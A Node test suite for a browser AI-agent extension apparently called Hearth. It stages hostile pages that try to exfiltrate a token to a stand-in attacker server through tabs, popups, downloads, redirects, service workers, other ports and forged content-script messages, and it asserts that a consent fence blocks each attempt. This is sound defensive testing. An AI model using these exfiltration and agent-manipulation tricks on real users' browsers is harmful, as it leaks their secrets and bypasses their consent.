// Consent on every channel an effect can take (docs/threat-model.md: each row's test is here or
// named there). A fooled model (the scripted one) makes one harmless-looking move on a hostile page
// (tests/pages/attacks/channels.html, forward.html) whose scripts then send the effect down another
// channel: a new tab, a popup, a noopener tab, a form into a new tab, a download (a link's, a
// script's blob, a server's attachment), the page's own history.back(), a meta refresh, a frame
// moving the tab, the page's service worker moving it, another port of the same machine
// (read_link grants, approved visits, POST allowances), a citation chip's tab, settings written by
// a content script, a decision that arrives after the page moved the tab. Every assertion is on an effect: another server's log,
// the tabs that exist, the tab's address, the downloads the browser kept, the stored settings.

import assert from "node:assert/strict";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { launch, until } from "../lib/browser.mjs";
import { loggingServer } from "../lib/server.mjs";
import { contentScriptWorld } from "../lib/content-world.mjs";
import { clickInOverlay, clickLauncher, overlayEval, overlayHost, overlayText, screenshot } from "../lib/overlay.mjs";
import { answerFenceCard, ask, call, decide, denyCard, done, indexOf, openAgentPage, scriptedPrompts, str, useScript, waitForTask } from "../lib/agent.mjs";

const WORKER = "/service-worker.js";
/** How long the fence stays up after a run ends (src/worker/fence.ts). */
const SETTLE_MS = 3_000;

let site;
let attacker;
/** Two more servers on the task site's machine (127.0.0.1, other ports): two more sites. */
let other;
let other2;
let chrome;
/** The browser's downloads folder (Playwright's own handling of downloads is switched off). */
const downloadsDir = mkdtempSync(join(tmpdir(), "hearth-downloads-"));
before(async () => {
  site = await loggingServer("127.0.0.1", true);
  attacker = await loggingServer("localhost", false);
  other = await loggingServer("127.0.0.1", true);
  other2 = await loggingServer("127.0.0.1", false);
  chrome = await launch();
  const cdp = await chrome.browser.newBrowserCDPSession();
  await cdp.send("Browser.setDownloadBehavior", { behavior: "allow", downloadPath: downloadsDir });
});
after(async () => {
  await chrome?.close();
  for (const server of [site, attacker, other, other2]) await server?.close();
  rmSync(downloadsDir, { recursive: true, force: true });
});

const inWorker = (expression) => chrome.console.evaluate(WORKER, expression);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const channelsUrl = () => `${site.url}/attacks/channels.html?attacker=${encodeURIComponent(attacker.url)}&other=${encodeURIComponent(other.url)}`;
/** The attacker's log lines that carry the secret or name `path`. */
const reached = (server, path) => server.log.filter((l) => l.includes(path));
const tabCount = () => inWorker(`chrome.tabs.query({}).then((t) => t.length)`);
/** The files in the downloads folder whose name matches `pattern` (partial downloads included). */
const filesNamed = (pattern) => readdirSync(downloadsDir).filter((f) => pattern.test(f));
/** The browser's downloads whose file name matches `pattern`, as it keeps them. */
const downloadsNamed = (pattern) => inWorker(`chrome.downloads.search({}).then((all) => all.filter((d) => ${pattern}.test(d.filename)).map((d) => ({ state: d.state, exists: d.exists, error: d.error ?? null })))`);

/** A task whose model takes a snapshot, clicks `label` (a plain button: no card) and is done. */
async function harmlessClick(label, request) {
  const page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf(label)}`), call("wait_for", `text:${str("never shown")},timeout_seconds:4`), done("Done.")]);
  await ask(page, request);
  return page;
}

test("a tab or window the page opens during a task carries the fence from its first request", { timeout: 300_000 }, async () => {
  // The issue's attack 1 (window.open), and three of ours: a popup window, a noopener tab, a form
  // the page sends into a new tab.
  for (const [label, path] of [
    ['"Show offers"', "/new-tab"],
    ['"Show help"', "/popup"],
    ['"Show terms"', "/noopener"],
    ['"Show map"', "/form-tab"],
  ]) {
    const tabs = await tabCount();
    const page = await harmlessClick(label, "Show me what this button shows.");
    await answerFenceCard(page, [new URL(attacker.url).host, path], "deny", path === "/new-tab" ? "fence-new-tab" : undefined);
    assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
    assert.deepEqual(reached(attacker, path), [], `${path}: nothing reached the other site`);
    await until(async () => (await tabCount()) === tabs + 1, `${path}: the opened tab to be closed (only the task's own is new)`);
    await page.close();
  }
});

test("a same-site tab the task opens is fenced too: its page cannot forward to another site", { timeout: 120_000 }, async () => {
  // Ours: the agent opens a same-site link in a new tab (the card asks, the user allows); the page
  // in that tab then sends the tab to another site.
  const page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Partner page"')}`), call("wait_for", `text:${str("never shown")},timeout_seconds:5`), done("Opened it.")]);
  await ask(page, "Open the partner page.");
  await decide(page, "allow_once");
  await answerFenceCard(page, [new URL(attacker.url).host, "/forwarded"], "deny");
  assert.ok(site.log.some((l) => l.startsWith("GET /attacks/forward.html")), "the partner page opened");
  assert.deepEqual(reached(attacker, "/forwarded"), [], "nothing was forwarded to the other site");
  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
  await page.close();
});

test("downloads are effects: a link's asks, a script's and a server's are held until the user decides; Deny leaves no file", { timeout: 240_000 }, async () => {
  // The issue's attack 2: an agent click on a same-site <a download>.
  const page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Monthly report"')}`), done("Saved it.")]);
  await ask(page, "Download the monthly report.");
  const card = await denyCard(page, ["report.csv", new URL(site.url).host]);
  assert.match(card, /download/i);
  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
  assert.deepEqual(reached(site, "report.csv"), [], "the file was never requested");
  assert.deepEqual(await downloadsNamed(/report/), [], "no download");
  assert.deepEqual(filesNamed(/report/), [], "nothing in the downloads folder");
  await page.close();

  // Ours: a page script saves a blob with a download link after a harmless click.
  const second = await harmlessClick('"Save invoice"', "Save the invoice.");
  await answerFenceCard(second, ["invoice.txt"], "deny", "fence-download");
  // Deny cancels it, removes what reached the disk and erases it.
  await until(async () => (await downloadsNamed(/invoice/)).every((d) => d.state === "interrupted" && !d.exists), "the held download to be cancelled and gone");
  assert.deepEqual(filesNamed(/invoice|crdownload/), [], "nothing in the downloads folder");
  await second.close();

  // Ours: a plain same-site link whose server answers with an attachment.
  const third = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Statement"')}`), call("wait_for", `text:${str("never shown")},timeout_seconds:4`), done("Opened it.")]);
  await ask(third, "Open the statement.");
  await answerFenceCard(third, ["statement.pdf"], "deny");
  // Deny cancels it, removes what reached the disk and erases it.
  await until(async () => (await downloadsNamed(/statement/)).every((d) => d.state === "interrupted" && !d.exists), "the held download to be cancelled and gone");
  assert.deepEqual(filesNamed(/statement|crdownload/), [], "nothing in the downloads folder");
  await third.close();
});

test("the page's own history.back() stops the task and moves nothing: the worker never replays it", { timeout: 120_000 }, async () => {
  // The issue's attack 3.
  const before = `${attacker.url}/before-the-task?d=SECRET-TOKEN-42`;
  const url = channelsUrl();
  const page = await openAgentPage(chrome, url, { after: before });
  const seen = attacker.log.length;
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Previous step"')}`), call("wait_for", `text:${str("never shown")},timeout_seconds:6`), done("Went on.")]);
  await ask(page, "Go to the previous step.");
  await answerFenceCard(page, [new URL(attacker.url).host, "/before-the-task"], "deny");
  await until(async () => page.url() === url, "the tab to be on the task's page");
  assert.deepEqual(attacker.log.slice(seen), [], "the other site was not asked for its page again");
  assert.notEqual(await waitForTask(page, ["stopped", "done", "failed", "paused"]), "running", "the task stopped");
  await page.close();
});

test("a meta refresh and a frame moving the tab are stopped like the page's own navigation", { timeout: 180_000 }, async () => {
  // Two of ours.
  for (const [label, path] of [['"Refresh prices"', "/meta-refresh"], ['"Show preview"', "/frame-top"]]) {
    const url = channelsUrl();
    const page = await harmlessClick(label, "Show the prices.");
    await answerFenceCard(page, [new URL(attacker.url).host, path], "deny");
    await until(async () => page.url() === url, `${path}: the tab back on the task's page`);
    assert.deepEqual(reached(attacker, path), [], `${path}: nothing reached the other site`);
    await page.close();
  }
});

test("the page's own service worker moving its tab is stopped like the page's navigation", { timeout: 120_000 }, async () => {
  // Ours, from the threat model's row 11: not the page's script but its service worker's
  // `client.navigate`, started by a harmless click.
  const url = channelsUrl();
  const page = await harmlessClick('"Save drafts"', "Save my drafts.");
  await answerFenceCard(page, [new URL(attacker.url).host, "/sw-navigate"], "deny");
  await until(async () => page.url() === url, "the tab back on the task's page");
  assert.deepEqual(reached(attacker, "/sw-navigate"), [], "nothing reached the other site");
  const controlled = await page.evaluate(() => navigator.serviceWorker.controller !== null);
  assert.ok(controlled, "the page's service worker was in control: the move was its own");
  await page.close();
});

test("ports: a grant, an approved visit and a POST allowance for one local server cover no other port", { timeout: 240_000 }, async () => {
  const otherHost = new URL(other.url).host;
  const other2Host = new URL(other2.url).host;
  // The issue's attack 4a: "Allow for this task" for read_link on one local server.
  let page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [
    call("read_link", `url:${str(`${other.url}/one?d=SECRET-TOKEN-42`)}`),
    call("read_link", `url:${str(`${other2.url}/two?d=SECRET-TOKEN-42`)}`),
    done("Read them."),
  ]);
  await ask(page, "Read both local pages.");
  await waitForTask(page, ["confirm"]);
  assert.match(await overlayText(page, ".card.confirm"), new RegExp(otherHost.replace(/\./g, "\\.")));
  await decide(page, "allow_for_task");
  await denyCard(page, [other2Host]);
  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
  assert.ok(other.log.includes("GET /one?d=SECRET-TOKEN-42"), "the approved server was read");
  assert.deepEqual(reached(other2, "/two"), [], "the other port received nothing");
  await page.close();

  // The issue's attack 4b: an approved visit to one port; the page there moves the tab to another.
  // It is sent `no-store`: taken back, it loads again and tries again; the second time it is left
  // on the error page, and nothing replays the attempt once the task ends and the fence lifts.
  page = await openAgentPage(chrome, channelsUrl());
  const hop = `${other.url}/attacks/forward.html?attacker=${encodeURIComponent(other2.url)}&d=SECRET-TOKEN-42&no-store`;
  await useScript(chrome, [call("navigate", `url:${str(hop)}`), call("wait_for", `text:${str("never shown")},timeout_seconds:5`), done("Opened it.")]);
  await ask(page, "Open the partner page on the local server.");
  await decide(page, "allow_once");
  await answerFenceCard(page, [other2Host, "/forwarded"], "deny");
  assert.deepEqual(reached(other2, "/forwarded"), [], "the other port received nothing");
  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
  await sleep(SETTLE_MS + 2_000);
  assert.deepEqual(reached(other2, "/forwarded"), [], "the other port received nothing after the fence lifted");
  const loads = reached(other, "/attacks/forward.html").length;
  assert.ok(loads <= 2, `the page was taken back once, not replayed in a loop (${loads} loads)`);
  await page.close();

  // The issue's attack 4c: while an approved same-site POST runs, the page posts to another port.
  page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Order tea"')}`), call("wait_for", `text:${str("never shown")},timeout_seconds:5`), done("Ordered.")]);
  await ask(page, "Order the tea.");
  await decide(page, "allow_once");
  await answerFenceCard(page, [otherHost, "/transfer"], "deny");
  assert.deepEqual(other.log.filter((l) => l.startsWith("POST")), [], "no transfer reached the other server");
  await page.close();
});

test("a citation chip names the full address it opens, and its tab carries the task's fence", { timeout: 180_000 }, async () => {
  // The issue's attack 5: a model-chosen same-site address whose page forwards to another site.
  const page = await openAgentPage(chrome, channelsUrl());
  const partner = `${site.url}/attacks/forward.html?attacker=${encodeURIComponent(attacker.url)}&d=SECRET-TOKEN-42`;
  await useScript(chrome, [
    call("read_link", `url:${str(partner)}`),
    done("The partners deliver to forty-two towns [1]."),
    call("wait_for", `text:${str("never shown")},timeout_seconds:20`),
    done("Waited."),
  ]);
  await ask(page, "Where do the partners deliver?");
  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
  assert.equal(await overlayEval(page, 'button.cite[data-cite="1"]', "function () { return this.dataset.opens; }"), partner, "the chip says where it leads");
  // A second task runs; the user follows the chip meanwhile.
  await ask(page, "Wait for the partner list.");
  await waitForTask(page, ["running"]);
  const tabs = await tabCount();
  await clickInOverlay(page, 'button.cite[data-cite="1"]');
  await answerFenceCard(page, [new URL(attacker.url).host, "/forwarded"], "deny");
  assert.ok(site.log.some((l) => l.startsWith("GET /attacks/forward.html")), "the chip's page opened");
  assert.deepEqual(reached(attacker, "/forwarded"), [], "nothing was forwarded to the other site");
  await until(async () => (await tabCount()) === tabs, "the chip's tab to be closed");

  // Ours: a compromised content script asks the worker to open another site "as a chip" during the
  // task: an address of its own (the old message, and the chip's input with one), or a passage the
  // conversation does not hold. The worker opens only the pages its own record of the conversation cites.
  const asContentScript = await contentScriptWorld(chrome, page);
  const forgedUrl = JSON.stringify(`${attacker.url}/chip-forged?d=SECRET-TOKEN-42`);
  const opened = await asContentScript(
    `Promise.all([{ kind: "open_source", url: ${forgedUrl} }, { kind: "chat_input", input: { input: "show_source", number: 99, url: ${forgedUrl} } }].map((m) => chrome.runtime.sendMessage(m)))`,
  );
  assert.ok(opened.every((o) => o !== true), `a forged chip was opened: ${JSON.stringify(opened)}`);
  await sleep(500);
  assert.deepEqual(reached(attacker, "/chip-forged"), []);
  assert.equal(await tabCount(), tabs);
  await page.close();
});

test("settings are written by Hearth's own pages only: a content script's writes change nothing", { timeout: 120_000 }, async () => {
  // The issue's attack 6: a content script in another tab switches run_javascript on.
  await inWorker(`chrome.storage.sync.set({ settings: { toolModes: { run_javascript: "ask" } } })`);
  try {
    const other_ = await openAgentPage(chrome, `${site.url}/attacks/article.html`);
    const asContentScript = await contentScriptWorld(chrome, other_);
    const attempts = await asContentScript(`(async () => {
      const outcome = (p) => p.then(() => "done", (e) => String(e.message ?? e));
      return {
        sync: await outcome(chrome.storage.sync.set({ settings: { toolModes: { run_javascript: "on" } } })),
        local: await outcome(chrome.storage.local.set({ ownModels: { evil: { id: "evil" } } })),
        reopen: await outcome(chrome.storage.sync.setAccessLevel({ accessLevel: "TRUSTED_AND_UNTRUSTED_CONTEXTS" })),
        read: await outcome(chrome.storage.sync.get("settings")),
        forged: await outcome(chrome.runtime.sendMessage({ kind: "save_settings", patch: { toolModes: { run_javascript: "on" } } })),
      };
    })()`);
    assert.notEqual(attempts.sync, "done", JSON.stringify(attempts));
    assert.notEqual(attempts.local, "done", JSON.stringify(attempts));
    assert.notEqual(attempts.reopen, "done", JSON.stringify(attempts));
    assert.notEqual(attempts.read, "done", JSON.stringify(attempts));
    assert.equal((await inWorker(`chrome.storage.sync.get("settings")`)).settings.toolModes.run_javascript, "ask", "the stored mode is unchanged");
    assert.deepEqual(await inWorker(`chrome.storage.local.get("ownModels").then((s) => s.ownModels ?? {})`), {}, "no model record was planted");
    // The effect: a script still asks first.
    const page = await openAgentPage(chrome, channelsUrl());
    await useScript(chrome, [call("run_javascript", `code:${str('document.title = "RAN-HERE"')}`), done("Renamed it.")]);
    await ask(page, "Rename the page.");
    await denyCard(page, []);
    assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
    assert.notEqual(await page.title(), "RAN-HERE");
    await page.close();
    await other_.close();
  } finally {
    await inWorker(`chrome.storage.sync.set({ settings: {} })`);
  }
});

test("a Deny answered after the page moved the tab approves nothing", { timeout: 120_000 }, async () => {
  // The issue's attack 7.
  const page = await openAgentPage(chrome, channelsUrl());
  await useScript(chrome, [
    call("run_javascript", `code:${str('document.title = "RAN-HERE"')}`),
    call("wait_for", `text:${str("never shown")},timeout_seconds:8`),
    done("Done."),
  ]);
  await ask(page, "Rename the page.");
  await waitForTask(page, ["confirm"]);
  // The run waits for the user, so the fence lifts; meanwhile the page sends the tab elsewhere.
  const fenced = () => inWorker("chrome.declarativeNetRequest.getSessionRules().then((r) => r.length)");
  await until(async () => (await fenced()) === 0, "the fence to lift while the card waits");
  const elsewhere = `${attacker.url}/moved-for-deny`;
  await page.evaluate((to) => void (location.href = to), elsewhere);
  await until(async () => page.url() === elsewhere, "the tab to be on the other site");
  await overlayHost(page);
  await clickLauncher(page);
  await decide(page, "deny");
  // The run goes on (the fence is up again, around the task's sites only); the page there sends
  // itself on with what it has. Had the Deny approved the tab's site, this would pass.
  await until(async () => (await fenced()) > 0, "the fence to be up for the resumed run");
  await page.evaluate((to) => void (location.href = to), `${attacker.url}/exfil?d=SECRET-TOKEN-42`);
  await answerFenceCard(page, [new URL(attacker.url).host, "/exfil"], "deny");
  assert.deepEqual(reached(attacker, "/exfil"), [], "nothing was sent to the other site");
  await screenshot(page, "fence-after-deny");
  await page.close();
});

test("the console stayed clean", () => {
  assert.deepEqual(chrome.console.errors, []);
});
